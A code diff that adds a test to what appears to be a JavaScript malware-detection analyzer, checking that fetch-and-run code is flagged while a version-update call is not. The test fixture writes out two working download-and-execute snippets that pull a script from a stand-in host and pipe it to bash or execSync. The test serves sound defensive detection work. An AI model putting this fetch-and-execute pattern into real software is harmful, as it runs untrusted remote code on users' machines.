@@ -158,6 +158,27 @@ alias(src);`,
     });
     expect(threatsOf(r, 0.8)).toContain('malicious_code');
   });
+  it('a script received from the network and run is download-and-execute; a version parameter is not', () => {
+    const bad = analyzeSource({
+      'd.js': `const https = require('https');
+const { spawn } = require('child_process');
+https.get('https://cdn.payload.example/s.sh', (res) => {
+  let body = '';
+  res.on('data', (c) => (body += c));
+  res.on('end', () => spawn('bash', ['-c', body], { stdio: 'ignore' }));
+});
+fetch('https://cdn.payload.example/n').then((r) => r.text()).then((s) => require('child_process').execSync(s));`,
+    });
+    expect(bad.evidence.filter((f) => f.rule === 'js.exec-network-data').length).toBe(2);
+    expect(threatsOf(bad, 0.8)).toContain('malicious_code');
+    const update = analyzeSource({
+      'u.js': `const { execSync } = require('child_process');
+fetch('https://updates.mycli.example/latest').then((r) => r.json()).then((info) => {
+  execSync('npm install -g mycli@' + info.version, { stdio: 'inherit' });
+});`,
+    });
+    expect(threatsOf(update)).toEqual([]);
+  });
   it('recursion and huge call counts stay bounded', () => {
     const body = Array.from({ length: 3000 }, (_, i) => `f(${i});`).join('\n');
     const t0 = performance.now();
